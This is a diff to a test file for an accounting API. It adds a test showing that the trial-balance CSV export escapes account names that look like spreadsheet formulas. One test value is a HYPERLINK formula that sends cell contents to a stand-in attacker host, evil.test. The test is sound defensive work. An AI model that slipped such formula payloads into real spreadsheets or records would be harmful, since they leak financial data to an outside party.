@@ -180,6 +180,31 @@ describe('trial balance', () => {
     expectFieldError(await business.sandbox.get('/api/v1/reports/trial-balance?as_of=yesterday'), 'as_of');
   });
 
+  it('writes account names that look like formulas as text in the CSV, amounts as numbers', async () => {
+    const business = await platform.createBusiness();
+    const ids = await accountIds(business);
+    const formula = '=HYPERLINK("https://evil.test/?leak="&E2&E3,"Cash")';
+    for (const [code, name] of [['1000', formula], ['3000', '-Owner'], ['6000', '@SUM(A1)'], ['7000', '+1']]) {
+      expect((await business.sandbox.put(`/api/v1/coa/accounts/${ids[code]}`, { name })).status).toBe(200);
+    }
+    await created(business.sandbox, JOURNALS, { date: '2026-01-10', lines: [{ account_id: ids['1000'], debit: '12.50' }, { account_id: ids['3000'], credit: '12.50' }] });
+    await created(business.sandbox, JOURNALS, { date: '2026-01-11', lines: [{ account_id: ids['6000'], debit: '1' }, { account_id: ids['7000'], debit: '1' }, { account_id: ids['4100'], credit: '2' }] });
+    // (Names are trimmed, so one cannot start with a tab or a line break: the unit spec covers those.)
+
+    const csv = await business.sandbox.get('/api/v1/reports/trial-balance?as_of=2026-01-31', { headers: { accept: 'text/csv' } });
+    expect(csv.status).toBe(200);
+    expect(csv.text.split('\r\n')).toEqual([
+      'account_id,code,name,type,debit,credit',
+      `${ids['1000']},1000,"'=HYPERLINK(""https://evil.test/?leak=""&E2&E3,""Cash"")",asset,12.50,0.00`,
+      `${ids['3000']},3000,'-Owner,equity,0.00,12.50`,
+      `${ids['4100']},4100,Other Income,income,0.00,2.00`,
+      `${ids['6000']},6000,'@SUM(A1),expense,1.00,0.00`,
+      `${ids['7000']},7000,'+1,expense,1.00,0.00`,
+      ',,Total,,14.50,14.50',
+      '',
+    ]);
+  });
+
   it('is answered again from the read cache until the business records an event: a posting or an account change shows at once', async () => {
     const business = await platform.createBusiness();
     const ids = await accountIds(business);
@@ -236,7 +261,7 @@ describe('PUT /api/v1/business', () => {
   it('updates fields, sets a lock date that refuses earlier postings, and guards the base currency', async () => {
     const business = await platform.createBusiness({ baseCurrency: 'USD' });
     const ids = await accountIds(business);
-    const updated = await business.sandbox.put('/api/v1/business', { name: 'Renamed', timezone: 'Africa/Lagos', country: 'ng', base_currency: 'ngn' });
+    const updated = await business.production.put('/api/v1/business', { name: 'Renamed', timezone: 'Africa/Lagos', country: 'ng', base_currency: 'ngn' });
     expect(updated.status).toBe(200);
     expect(updated.body.data).toMatchObject({ name: 'Renamed', timezone: 'Africa/Lagos', country: 'NG', base_currency: 'NGN', version: 2 });
     expect((await business.sandbox.get(`/api/v1/coa/accounts/${ids['1000']}`)).body.data.currency).toBe('NGN');
@@ -248,10 +273,10 @@ describe('PUT /api/v1/business', () => {
     const entry = await created<Entry>(business.sandbox, JOURNALS, { date: '2026-07-01', lines });
     expectFieldError(await business.sandbox.post(`${JOURNALS}/${entry.id}/reverse`, { date: '2026-06-01' }), 'date');
 
-    const refused = await business.sandbox.put('/api/v1/business', { base_currency: 'USD' });
+    const refused = await business.production.put('/api/v1/business', { base_currency: 'USD' });
     expect(refused.status).toBe(409);
-    expectFieldError(await business.sandbox.put('/api/v1/business', { timezone: 'Mars/Olympus' }), 'timezone');
-    const stale = await business.sandbox.put('/api/v1/business', { name: 'Stale' }, { headers: { 'if-match': '"1"' } });
+    expectFieldError(await business.production.put('/api/v1/business', { timezone: 'Mars/Olympus' }), 'timezone');
+    const stale = await business.production.put('/api/v1/business', { name: 'Stale' }, { headers: { 'if-match': '"1"' } });
     expect(stale.status).toBe(412);
   });
 });
